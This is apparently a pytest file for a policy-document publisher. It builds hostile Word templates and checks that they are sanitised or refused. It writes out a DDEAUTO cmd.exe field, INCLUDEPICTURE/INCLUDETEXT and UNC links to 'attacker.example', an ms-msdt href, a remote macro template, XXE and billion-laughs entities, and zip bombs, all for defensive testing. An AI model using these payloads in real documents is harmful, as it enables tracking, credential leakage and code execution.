"""A force's ``--template`` is untrusted input: what it carries beyond styles, page setup and header content
never reaches a published document, and the read-back refuses a document that carries it anyway.

The hostile templates are built here, with python-docx and by editing the XML of their ZIP parts, so
that each test shows what it puts in and the repository holds no binary fixture.
"""

from __future__ import annotations

import io
import re
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml import parse_xml
from lxml import etree

from pcso_policy.cli import run
from pcso_policy.errors import UsageError
from pcso_policy.render import Rendered, render_bytes
from pcso_policy.render.package import ZipEntry, deflate, write_zip
from pcso_policy.render.readback import problems, read_back
from tests.render.helpers import CLEAN, ROOT, rendered
from tests.render.ooxml import SCHEMAS, part_errors

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
ATTACKER = "attacker.example"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def png() -> bytes:
    """A one-pixel PNG, the force's logo."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b"")


def force_template() -> dict[str, bytes]:
    """An ordinary force template's parts: a header with the force's name and logo, a footer."""
    document = docx.Document()
    header = document.sections[0].header.paragraphs[0]
    header.text = "FORCE LOGO"
    header.add_run().add_picture(io.BytesIO(png()))
    document.sections[0].footer.paragraphs[0].text = "Force footer"
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    # python-docx's own default lacks an attribute the schema requires (the built-in template has it)
    zoom = b'<w:zoom w:val="bestFit"/>'
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(zoom, b'<w:zoom w:val="bestFit" w:percent="100"/>')
    return parts


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def unzipped(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def insert(parts: dict[str, bytes], name: str, before: str, xml: str) -> None:
    text = parts[name].decode("utf-8")
    assert before in text, f"{before!r} is not in {name}"
    parts[name] = text.replace(before, xml + before, 1).encode("utf-8")


def relate(parts: dict[str, bytes], owner_rels: str, rel_id: str, kind: str, target: str, external: bool = False) -> None:
    if owner_rels not in parts:
        parts[owner_rels] = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"></Relationships>'.encode()
    mode = ' TargetMode="External"' if external else ""
    kind = kind if kind.startswith("http") else RT + kind
    insert(parts, owner_rels, "</Relationships>", f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>')


def add_part(parts: dict[str, bytes], name: str, content_type: str, data: bytes) -> None:
    parts[name] = data
    insert(parts, "[Content_Types].xml", "</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/>')


FIELD_DDE = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE RESULT</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
FIELD_INCLUDEPICTURE = (
    f"<w:fldSimple w:instr=' INCLUDEPICTURE \"http://{ATTACKER}/track.png\" \\d '><w:r><w:t>PICTURE RESULT</w:t></w:r></w:fldSimple>"
)
FIELD_NESTED = (  # { IF { INCLUDETEXT "\\attacker\..." } = 1 } around the text it showed
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    f'<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "\\\\\\\\{ATTACKER}\\\\share\\\\x.docx" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>NESTED</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> = 1 "yes" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>IF RESULT</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
FIELD_PAGE_SPLIT = (  # the force's own page number, its code in two runs as Word often writes it
    '<w:r><w:t xml:space="preserve">Template page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve"> \\* MERGEFORMAT </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
OLE = (
    '<w:r><w:object><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:1pt;height:1pt">'
    '<v:imagedata r:id="rIdOleImage" o:title=""/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Content" ObjectID="_1" r:id="rIdOle"/>'
    "</w:object></w:r>"
)
ACTIVEX = '<w:r><w:object><w:control r:id="rIdActiveX" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r>'
VML_HREF = '<w:r><w:pict><v:rect style="width:10pt;height:10pt" href="ms-msdt:/id PCWDiagnostic"/></w:pict></w:r>'
LINKED_PICTURE = '<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdUnc" o:title=""/></v:shape></w:pict></w:r>'
HEADER_LINK = '<w:hyperlink r:id="rIdEvilLink"><w:r><w:t>HEADER LINK TEXT</w:t></w:r></w:hyperlink>'
APP = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    f"<Template>\\\\{ATTACKER}\\templates\\evil.dotm</Template><Application>Microsoft Office Word</Application>"
    f"<Manager>Mister Evil</Manager><Company>Evil Ltd</Company><HyperlinkBase>\\\\{ATTACKER}\\share\\</HyperlinkBase>"
    "</Properties>"
).encode()


def hostile_template() -> bytes:
    """A force template carrying every kind of active content, beside what it legitimately brings."""
    parts = force_template()
    header, header_rels = "word/header1.xml", "word/_rels/header1.xml.rels"
    body = FIELD_DDE + FIELD_INCLUDEPICTURE + HEADER_LINK + OLE + ACTIVEX + VML_HREF + LINKED_PICTURE
    insert(parts, header, "</w:hdr>", f"<w:p {NS}>{body}</w:p><w:altChunk {NS} r:id=\"rIdChunk\"/>")
    # The logo is embedded, and also linked to a network copy and made a hyperlink to ms-msdt:
    insert(parts, header, '<wp:cNvGraphicFramePr>', "")
    text = parts[header].decode()
    picture = '<wp:docPr id="1" name="Picture 1"'
    text = text.replace(f"{picture}/>", f'{picture}><a:hlinkClick r:id="rIdPicLink"/></wp:docPr>')
    svg = '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip r:embed="rIdSvg"/></a:ext></a:extLst>'
    asvg = 'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
    blip = f'<a:blip {asvg} r:embed="rId1" r:link="rIdUncBlip">{svg}</a:blip>'
    parts[header] = text.replace('<a:blip r:embed="rId1"/>', blip).encode()
    relate(parts, header_rels, "rIdSvg", "image", "media/logo.svg")  # an SVG copy: not a picture type kept
    svg_part = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://attacker.example/x"/></svg>'
    add_part(parts, "word/media/logo.svg", "image/svg+xml", svg_part)
    relate(parts, header_rels, "rIdEvilLink", "hyperlink", f"http://{ATTACKER}/header", external=True)
    relate(parts, header_rels, "rIdPicLink", "hyperlink", "ms-msdt:/id PCWDiagnostic", external=True)
    relate(parts, header_rels, "rIdUncBlip", "image", f"file://///{ATTACKER}/share/logo.png", external=True)
    relate(parts, header_rels, "rIdUnc", "image", f"\\\\{ATTACKER}\\share\\logo.png", external=True)
    relate(parts, header_rels, "rIdChunk", "aFChunk", f"http://{ATTACKER}/chunk.html", external=True)
    relate(parts, header_rels, "rIdOleImage", "image", "media/ole.png")
    parts["word/media/ole.png"] = png()
    relate(parts, header_rels, "rIdOle", "oleObject", "embeddings/oleObject1.bin")
    add_part(parts, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"OLE PAYLOAD")
    relate(parts, header_rels, "rIdActiveX", "control", "activeX/activeX1.xml")
    control = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'
    add_part(parts, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", control)
    # The footer: the force's page number (kept) and a field nested in another (removed)
    insert(parts, "word/footer1.xml", "</w:ftr>", f"<w:p {NS}>{FIELD_PAGE_SPLIT}{FIELD_NESTED}</w:p>")
    # The document: macros, an unused outside link, a printer settings blob, and the header of a section
    # the template's sample text ended (its paragraph goes with the sample text; its header must go too)
    document_rels = "word/_rels/document.xml.rels"
    relate(parts, document_rels, "rIdVba", VBA, "vbaProject.bin")
    add_part(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"VBA MACROS")
    relate(parts, document_rels, "rIdDocLink", "hyperlink", f"http://{ATTACKER}/document", external=True)
    relate(parts, document_rels, "rIdPrinter", "printerSettings", "printerSettings/printerSettings1.bin")
    add_part(parts, "word/printerSettings/printerSettings1.bin", f"{WML}.printerSettings", b"PRINTER")
    relate(parts, document_rels, "rIdOrphan", "header", "header9.xml")
    orphan = f"<w:hdr {NS}><w:p>{FIELD_DDE.replace('DDE RESULT', 'ORPHAN')}</w:p></w:hdr>"
    add_part(parts, "word/header9.xml", f"{WML}.header+xml", orphan.encode())
    section = '<w:sectPr><w:headerReference w:type="default" r:id="rIdOrphan"/></w:sectPr>'
    insert(parts, "word/document.xml", "<w:sectPr", f"<w:p {NS}><w:pPr>{section}</w:pPr></w:p>")
    insert(parts, "word/document.xml", "</w:sectPr>", f'<w:printerSettings {NS} r:id="rIdPrinter"/>')
    # Settings: an attached macro template, a mail merge from a share, document variables, embedded fonts
    settings_xml = (
        f'<w:attachedTemplate {NS} r:id="rIdTemplate"/><w:embedTrueTypeFonts {NS}/>'
        f'<w:mailMerge {NS}><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/>'
        '<w:query w:val="SELECT * FROM data"/><w:dataSource r:id="rIdMerge"/></w:mailMerge>'
        f'<w:docVars {NS}><w:docVar w:name="payload" w:val="macro data"/></w:docVars>'
    )
    insert(parts, "word/settings.xml", "</w:settings>", settings_xml)
    relate(parts, "word/_rels/settings.xml.rels", "rIdTemplate", "attachedTemplate", f"http://{ATTACKER}/evil.dotm", external=True)
    relate(parts, "word/_rels/settings.xml.rels", "rIdMerge", "mailMergeSource", f"\\\\{ATTACKER}\\share\\data.csv", external=True)
    # An embedded font, frames from elsewhere, the template author's properties, custom properties
    font = '<w:embedRegular r:id="rIdFont" w:fontKey="{00000000-0000-0000-0000-000000000000}"/>'
    insert(parts, "word/fontTable.xml", "</w:fonts>", f'<w:font {NS} w:name="Evil Font">{font}</w:font>')
    relate(parts, "word/_rels/fontTable.xml.rels", "rIdFont", "font", "fonts/font1.odttf")
    add_part(parts, "word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"FONT")
    frames = f'<w:frameset {NS}><w:frame><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
    insert(parts, "word/webSettings.xml", "</w:webSettings>", frames)
    relate(parts, "word/_rels/webSettings.xml.rels", "rIdFrame", "frame", f"http://{ATTACKER}/frame.html", external=True)
    parts["docProps/app.xml"] = APP
    relate(parts, "_rels/.rels", "rIdCustom", "custom-properties", "docProps/custom.xml")
    custom = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Secret"><vt:lpwstr>internal</vt:lpwstr>'
        "</property></Properties>"
    )
    add_part(parts, "docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml", custom.encode())
    return zipped(parts)


def render_with(tmp_path: Path, template: bytes) -> Rendered:
    path = tmp_path / "force.docx"
    path.write_bytes(template)
    return render_bytes(str(CLEAN), CLEAN.read_bytes(), template=path)


FORBIDDEN = [
    ATTACKER, "DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "ms-msdt", "vbaProject", "VBA MACROS", "oleObject", "OLE PAYLOAD",
    "activeX", "w:control", "w:object", "customXml", "custom-properties", "Secret", "embedRegular", "embedTrueTypeFonts",
    "odttf", "attachedTemplate", "mailMerge", "docVar", "altChunk", "printerSettings", "frameset", "hlinkClick", "href=",
    "r:link", "Mister Evil", "Evil Ltd", "evil.dotm", "HyperlinkBase", "<Company", "<Manager", "<Template", "ORPHAN",
    "thumbnail", "stylesWithEffects", "svgBlip", "logo.svg", "extLst",
]  # fmt: skip
ALLOWED_NAME = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(core|app)\.xml|word/(_rels/)?(document|header\d+|footer\d+)\.xml(\.rels)?"
    r"|word/(styles|numbering|settings|webSettings|fontTable|theme/theme1)\.xml|word/media/image\d+\.png"
)
BODY_LINKS = {"https://www.college.police.uk/app"}
"""The body's own hyperlinks (the clean fixture links the national guidance)."""


def assert_no_active_content(data: bytes) -> None:
    """Every part of the DOCX, looked at directly: no outside target but the body's links, no field but
    page numbering, no part a policy document does not need, nothing of the hostile template's."""
    parts = unzipped(data)
    for name, content in parts.items():
        assert ALLOWED_NAME.fullmatch(name), f"{name} is not a part a policy document needs"
        text = content.decode("utf-8", "replace")
        for forbidden in FORBIDDEN:
            assert forbidden.lower() not in text.lower(), f"{forbidden!r} is in {name}"
        if name.endswith(".rels"):
            for rel in etree.fromstring(content):
                if rel.get("TargetMode") == "External":
                    assert name == "word/_rels/document.xml.rels" and rel.get("Type") == RT + "hyperlink", (name, rel.attrib)
                    assert rel.get("Target") in BODY_LINKS, rel.attrib
        elif name.endswith(".xml"):
            root = etree.fromstring(content)
            assert root.getroottree().docinfo.doctype == ""
            instructions = " ".join(node.text or "" for node in root.iter(f"{{{W}}}instrText")).split()
            assert set(instructions) <= {"PAGE", "NUMPAGES", "\\*", "MERGEFORMAT"}, (name, instructions)
            assert not list(root.iter(f"{{{W}}}fldSimple"))
    app = etree.fromstring(parts["docProps/app.xml"])
    assert [etree.QName(child).localname for child in app] == ["Application", "DocSecurity"]


def test_a_hostile_template_publishes_none_of_its_active_content(tmp_path: Path) -> None:
    result = render_with(tmp_path, hostile_template())
    assert_no_active_content(result.data)
    frame = result.frame
    assert problems(read_back(result.data), frame.title, frame.marking, frame.draft, result.headings) == []


def test_what_a_hostile_template_legitimately_brings_is_kept(tmp_path: Path) -> None:
    """Not an empty template: its header text and logo, its page number; fields keep the text they showed."""
    result = render_with(tmp_path, hostile_template())
    document = docx.Document(io.BytesIO(result.data))
    header = document.sections[0].header
    text = "\n".join(paragraph.text for paragraph in header.paragraphs)
    assert "FORCE LOGO" in text and "OFFICIAL" in text
    assert "DDE RESULT" in text and "PICTURE RESULT" in text and "HEADER LINK TEXT" in text, "what the fields showed, as text"
    blips = header._element.xpath(".//a:blip")
    assert len(blips) == 1, "the logo stays, without its network link and its SVG copy"
    logo = header.part.related_parts[blips[0].get(f"{{{R}}}embed")]
    assert logo.blob == png()
    footer = document.sections[0].footer
    footer_text = "\n".join(paragraph.text for paragraph in footer.paragraphs)
    assert "Template page 1" in footer_text and "IF RESULT" in footer_text and "NESTED" not in footer_text
    instructions = [node.text.split()[0] for node in footer._element.iter(f"{{{W}}}instrText") if node.text and node.text.split()]
    assert instructions.count("PAGE") == 2, "the template's page number and the frame's"


@pytest.mark.skipif(not SCHEMAS.is_dir(), reason=f"the OOXML schemas are not at {SCHEMAS}")
def test_a_document_from_a_sanitised_template_is_schema_valid(tmp_path: Path) -> None:
    errors = part_errors(render_with(tmp_path, hostile_template()).data)
    assert {part: found for part, found in errors.items() if found} == {}


def test_a_clean_template_is_prepared_as_before(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A force's template without active content renders without any; sanitising the built-in template
    changes nothing (published documents stay byte-identical to those before the sanitiser)."""
    from pcso_policy.render import template

    result = render_with(tmp_path, zipped(force_template()))
    assert_no_active_content(result.data)
    sanitised = rendered(CLEAN).data
    template._prepare.cache_clear()
    monkeypatch.setattr(template, "_sanitise", lambda document: None)
    try:
        unsanitised = render_bytes(str(CLEAN.relative_to(ROOT)), CLEAN.read_bytes()).data
    finally:
        template._prepare.cache_clear()
    assert sanitised == unsanitised


# The read-back refuses a document holding what the sanitiser drops (one written by anything else)


def inject(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    parts = unzipped(data)
    change(parts)
    return zipped(parts)


def header_field(parts: dict[str, bytes]) -> None:
    insert(parts, "word/header1.xml", "</w:hdr>", f"<w:p {NS}>{FIELD_DDE}</w:p>")


def footer_simple_field(parts: dict[str, bytes]) -> None:
    insert(parts, "word/footer1.xml", "</w:ftr>", f"<w:p {NS}>{FIELD_INCLUDEPICTURE}</w:p>")


def unc_picture(parts: dict[str, bytes]) -> None:
    insert(parts, "word/header1.xml", "</w:hdr>", f"<w:p {NS}>{LINKED_PICTURE}</w:p>")
    relate(parts, "word/_rels/header1.xml.rels", "rIdUnc", "image", f"\\\\{ATTACKER}\\share\\logo.png", external=True)


def attached_template(parts: dict[str, bytes]) -> None:
    insert(parts, "word/settings.xml", "</w:settings>", f'<w:attachedTemplate {NS} r:id="rIdTemplate"/>')
    relate(parts, "word/_rels/settings.xml.rels", "rIdTemplate", "attachedTemplate", f"http://{ATTACKER}/evil.dotm", external=True)


def macros(parts: dict[str, bytes]) -> None:
    relate(parts, "word/_rels/document.xml.rels", "rIdVba", VBA, "vbaProject.bin")
    add_part(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"VBA MACROS")


def stray_macros(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"VBA MACROS"


def app_properties(parts: dict[str, bytes]) -> None:
    parts["docProps/app.xml"] = APP


def ole_object(parts: dict[str, bytes]) -> None:
    insert(parts, "word/header1.xml", "</w:hdr>", f"<w:p {NS}>{OLE}</w:p>")
    relate(parts, "word/_rels/header1.xml.rels", "rIdOle", "oleObject", "embeddings/oleObject1.bin")
    add_part(parts, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"OLE PAYLOAD")


def activex(parts: dict[str, bytes]) -> None:
    insert(parts, "word/header1.xml", "</w:hdr>", f"<w:p {NS}>{ACTIVEX}</w:p>")


def custom_xml(parts: dict[str, bytes]) -> None:
    relate(parts, "word/_rels/document.xml.rels", "rIdCustom", "customXml", "../customXml/item1.xml")
    parts["customXml/item1.xml"] = b"<data>internal</data>"


def embedded_font(parts: dict[str, bytes]) -> None:
    insert(parts, "word/fontTable.xml", "</w:fonts>", f'<w:font {NS} w:name="Evil"><w:embedRegular r:id="rIdFont"/></w:font>')
    relate(parts, "word/_rels/fontTable.xml.rels", "rIdFont", "font", "fonts/font1.odttf")
    add_part(parts, "word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"FONT")


def entity(parts: dict[str, bytes]) -> None:
    styles = parts["word/styles.xml"].decode()
    declaration = '<!DOCTYPE w:styles [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    parts["word/styles.xml"] = styles.replace("<w:styles", declaration + "<w:styles", 1).encode()


def vml_href(parts: dict[str, bytes]) -> None:
    insert(parts, "word/header1.xml", "</w:hdr>", f"<w:p {NS}>{VML_HREF}</w:p>")


def imported_chunk(parts: dict[str, bytes]) -> None:
    insert(parts, "word/header1.xml", "</w:hdr>", f'<w:altChunk {NS} r:id="rIdChunk"/>')
    relate(parts, "word/_rels/header1.xml.rels", "rIdChunk", "aFChunk", f"http://{ATTACKER}/chunk.html", external=True)


HOSTILE: list[tuple[Callable[[dict[str, bytes]], None], str]] = [
    (header_field, "'word/header1.xml' holds a field 'DDEAUTO c:\\\\windows"),
    (footer_simple_field, f"'word/footer1.xml' holds a field 'INCLUDEPICTURE \"http://{ATTACKER}/track.png\""),
    (unc_picture, "'word/header1.xml' has an external relationship (image) to '\\\\attacker.example\\share\\logo.png'"),
    (attached_template, "'word/settings.xml' holds an attached template"),
    (attached_template, f"'word/settings.xml' has an external relationship (attachedTemplate) to 'http://{ATTACKER}/evil.dotm'"),
    (macros, "relates to 'word/vbaProject.bin' (vbaProject, application/vnd.ms-office.vbaProject)"),
    (macros, "declares the content type 'application/vnd.ms-office.vbaProject'"),
    (stray_macros, "'word/vbaProject.bin' is a part no relationship reaches"),
    (app_properties, "'docProps/app.xml' names the Template, Manager, Company, HyperlinkBase of the template"),
    (ole_object, "'word/header1.xml' holds an embedded or linked object (OLE)"),
    (ole_object, "relates to 'word/embeddings/oleObject1.bin' (oleObject"),
    (activex, "'word/header1.xml' holds an ActiveX control"),
    (custom_xml, "relates to 'customXml/item1.xml' (customXml"),
    (embedded_font, "'word/fontTable.xml' holds an embedded font"),
    (embedded_font, "relates to 'word/fonts/font1.odttf' (font"),
    (entity, "'word/styles.xml' holds a document type declaration (DOCTYPE"),
    (vml_href, "'word/header1.xml' holds a link to 'ms-msdt:/id PCWDiagnostic' (href attribute)"),
    (imported_chunk, "'word/header1.xml' holds imported content (altChunk)"),
]


@pytest.mark.parametrize(("change", "expected"), HOSTILE, ids=[f"{change.__name__}-{n}" for n, (change, _) in enumerate(HOSTILE)])
def test_the_read_back_refuses_a_document_holding_active_content(change: Callable[[dict[str, bytes]], None], expected: str) -> None:
    clean = rendered(CLEAN)
    frame = clean.frame
    assert problems(read_back(clean.data), frame.title, frame.marking, frame.draft, clean.headings) == []
    found = problems(read_back(inject(clean.data, change)), frame.title, frame.marking, frame.draft, clean.headings)
    assert any(problem.startswith("it holds active content: ") and expected in problem for problem in found), found


def test_publish_removes_and_refuses_a_document_its_read_back_finds_active_content_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Should rendering ever write a DDE field, the file is checked on disk, refused and removed."""
    from pcso_policy.render import render_document

    def leaky(*args: Any, **kwargs: Any) -> Rendered:
        result = render_document(*args, **kwargs)
        return Rendered(inject(result.data, header_field), result.frame, result.headings)

    monkeypatch.setattr("pcso_policy.publish.render_document", leaky)
    monkeypatch.chdir(ROOT)
    out = tmp_path / "published"
    code = run(["publish", "--as-of", "2026-01-15", str(CLEAN.relative_to(ROOT)), "--out", str(out)])
    stdout = capsys.readouterr().out
    assert code == 1
    assert "rendered document check failed: it holds active content: 'word/header1.xml' holds a field 'DDEAUTO" in stdout
    assert sorted(path.name for path in out.iterdir()) == [], "nothing published, nothing recorded"


# Templates that must be refused outright, naming the template, without expanding anything


def refused(tmp_path: Path, template: bytes) -> str:
    path = tmp_path / "force.docx"
    path.write_bytes(template)
    with pytest.raises(UsageError) as caught:
        render_bytes(str(CLEAN), CLEAN.read_bytes(), template=path)
    message = str(caught.value)
    assert message.startswith(f"template '{path}' ") and message.endswith("save it from Word as a Word Document (.docx)")
    return message


def test_python_docx_does_not_expand_entities() -> None:
    """Why entities are refused rather than trusted to the parser: python-docx's parser leaves them unexpanded,
    and would write the reference into the published document, where Word would meet it."""
    element = parse_xml(f'<!DOCTYPE w:t [<!ENTITY secret "EXPANDED">]><w:t xmlns:w="{W}">&secret;</w:t>')
    assert b"EXPANDED" not in etree.tostring(element)
    assert b"&secret;" in etree.tostring(element)


def test_a_template_with_an_external_entity_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET CONTENT")
    parts = force_template()
    declaration = f'<!DOCTYPE w:hdr [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
    text = parts["word/header1.xml"].decode().replace("<w:hdr", declaration + "<w:hdr", 1)
    parts["word/header1.xml"] = text.replace("FORCE LOGO", "&xxe;").encode()
    message = refused(tmp_path, zipped(parts))
    assert "has a part 'word/header1.xml' holding a document type declaration (DOCTYPE" in message
    assert "TOP SECRET" not in message


def test_a_template_with_nested_entities_is_refused(tmp_path: Path) -> None:
    """The 'billion laughs': each entity ten of the one before."""
    parts = force_template()
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    text = parts["word/styles.xml"].decode().replace("<w:styles", f"<!DOCTYPE w:styles [{entities}]><w:styles", 1)
    parts["word/styles.xml"] = text.replace('w:val="Normal"/>', 'w:val="&lol9;"/>', 1).encode()
    assert "has a part 'word/styles.xml' holding a document type declaration" in refused(tmp_path, zipped(parts))


def bomb(parts: dict[str, bytes], name: str, inflated: int, declared: int | None = None) -> bytes:
    """The template with part ``name`` replaced by a deflate stream of ``inflated`` zero bytes (built from one
    repeated block, never held unpacked); its ZIP entry declares ``declared`` bytes (by default the truth)."""
    block = 2**20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressor.compress(bytes(block))
    compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(bytes(block)) + compressor.flush(zlib.Z_FULL_FLUSH)  # the same bytes every time
    stream = repeated * (inflated // block) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    size = inflated if declared is None else declared
    crc = 0
    for _ in range(size // block):
        crc = zlib.crc32(bytes(block), crc)
    crc = zlib.crc32(bytes(size % block), crc)
    entries = [deflate(other, data) for other, data in parts.items() if other != name]
    return write_zip([*entries, ZipEntry(name, crc, size, stream)], __import__("datetime").datetime(2025, 1, 1))


def peak_while(action: Callable[[], object]) -> int:
    tracemalloc.start()
    try:
        action()
    except UsageError:
        pass
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


def test_a_template_whose_part_inflates_to_gigabytes_is_refused_unexpanded(tmp_path: Path) -> None:
    template = bomb(force_template(), "word/styles.xml", 2**30)
    assert len(template) < 2 * 2**20
    message = refused(tmp_path, template)
    assert "has a part 'word/styles.xml' that unpacks to 1,024 MB" in message and "was not unpacked" in message
    path = tmp_path / "force.docx"
    assert peak_while(lambda: render_bytes(str(CLEAN), CLEAN.read_bytes(), template=path)) < 64 * 2**20


def test_a_template_whose_part_inflates_beyond_what_it_declares_is_refused_unexpanded(tmp_path: Path) -> None:
    """The ZIP directory says 10 kB; the data would inflate to a gigabyte: reading stops at 10 kB."""
    template = bomb(force_template(), "word/styles.xml", 2**30, declared=10_000)
    message = refused(tmp_path, template)
    assert "has a part 'word/styles.xml' holding XML that is not well-formed" in message
    path = tmp_path / "force.docx"
    assert peak_while(lambda: render_bytes(str(CLEAN), CLEAN.read_bytes(), template=path)) < 64 * 2**20


def test_a_template_file_too_large_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "force.docx"
    with path.open("wb") as stream:
        stream.truncate(40 * 2**20)  # sparse: nothing is written
    with pytest.raises(UsageError, match=r"template '.*force\.docx' is 40 MB, more than a Word template needs"):
        render_bytes(str(CLEAN), CLEAN.read_bytes(), template=path)


@pytest.mark.parametrize(
    ("content_type", "expected"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "is macro-enabled (.docm or .dotm)"),
        ("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "is macro-enabled (.docm or .dotm)"),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "is a Word template (.dotx)"),
    ],
)
def test_a_macro_enabled_document_or_a_template_file_is_refused(tmp_path: Path, content_type: str, expected: str) -> None:
    parts = force_template()
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert main.encode() in parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(main.encode(), content_type.encode())
    assert expected in refused(tmp_path, zipped(parts))


def test_a_template_with_malformed_xml_is_a_usage_error_not_a_traceback(tmp_path: Path) -> None:
    parts = force_template()
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(b"</w:hdr>", b"")
    assert "has a part 'word/header1.xml' holding XML that is not well-formed" in refused(tmp_path, zipped(parts))


def test_publish_with_a_hostile_template_refuses_nothing_and_publishes_it_clean(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(ROOT)
    template, out = tmp_path / "force.docx", tmp_path / "published"
    template.write_bytes(hostile_template())
    code = run(["publish", "--as-of", "2026-01-15", str(CLEAN.relative_to(ROOT)), "--out", str(out), "--template", str(template)])
    assert code == 0, capsys.readouterr().out
